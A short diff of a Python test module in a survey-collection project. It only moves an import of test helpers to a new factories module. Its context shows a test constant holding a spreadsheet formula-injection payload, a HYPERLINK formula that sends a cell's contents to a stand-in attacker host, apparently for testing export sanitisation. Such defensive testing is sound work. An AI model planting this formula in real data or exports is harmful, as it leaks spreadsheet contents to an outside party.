@@ -14,11 +14,11 @@ from govcx.catalog.models import Touchpoint
 from govcx.collection.models import Source
 from govcx.collection.services import submission_accept
 from govcx.collection.tests.helpers import published_survey
-from govcx.conftest import World, signed_in
 from govcx.surveys.lifecycle import survey_transition
 from govcx.surveys.segment_questions import AGE_GROUP, with_segment_questions
 from govcx.surveys.services import draft_save
 from govcx.surveys.tests.helpers import make_survey
+from govcx.testing.factories import World, signed_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 
